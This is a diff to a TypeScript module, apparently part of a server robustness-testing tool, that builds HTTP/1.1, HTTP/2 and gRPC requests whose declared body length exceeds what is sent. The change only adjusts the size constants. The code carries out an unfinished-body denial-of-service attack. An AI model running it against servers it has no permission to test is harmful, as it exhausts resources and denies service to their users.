@@ -2,14 +2,16 @@ import { type ClientHttp2Session, type ClientHttp2Stream, connect as connectHttp
 import type { Socket } from "node:net";
 import type { Attack, AttackResult } from "./attacks.ts";
 
-/** What of each body is sent; its end is not. */
-const BODY_BYTES = 4_000_000;
-
 const CHUNK = Buffer.alloc(16 * 1024, " ");
 
-/** A message of gRPC that will be a little longer than what is sent of it. */
+/** What of each body is sent; its end is not. */
+const SENT_BYTES = 244 * CHUNK.length;
+
+const BODY_BYTES = SENT_BYTES + 1000;
+
+/** A message of gRPC that is longer than what is sent of it. */
 const GRPC_PREFIX = Buffer.alloc(5);
-GRPC_PREFIX.writeUInt32BE(BODY_BYTES + 1000, 1);
+GRPC_PREFIX.writeUInt32BE(BODY_BYTES, 1);
 
 /** Requests whose bodies do not end. */
 export interface UnfinishedBodies {
@@ -35,7 +37,7 @@ export function unfinishedStreams(connections: number, streams: number, bodies: 
 
 /** The beginning of a request of HTTP/1.1 whose body does not end, and nearly all of it. */
 export function sendUnfinished(socket: Socket, { path, contentType }: UnfinishedBodies): undefined {
-  const head = `POST ${path} HTTP/1.1\r\nhost: a\r\ncontent-type: ${contentType}\r\ncontent-length: ${BODY_BYTES + 1000}\r\n\r\n`;
+  const head = `POST ${path} HTTP/1.1\r\nhost: a\r\ncontent-type: ${contentType}\r\ncontent-length: ${BODY_BYTES}\r\n\r\n`;
   socket.write(head);
   pour(socket);
 }
@@ -60,7 +62,7 @@ function openStream(
 
 /** Writes as fast as it is taken. */
 function pour(target: Socket | ClientHttp2Stream): void {
-  let left = BODY_BYTES;
+  let left = SENT_BYTES;
   const write = () => {
     while (left > 0 && !target.destroyed) {
       left -= CHUNK.length;
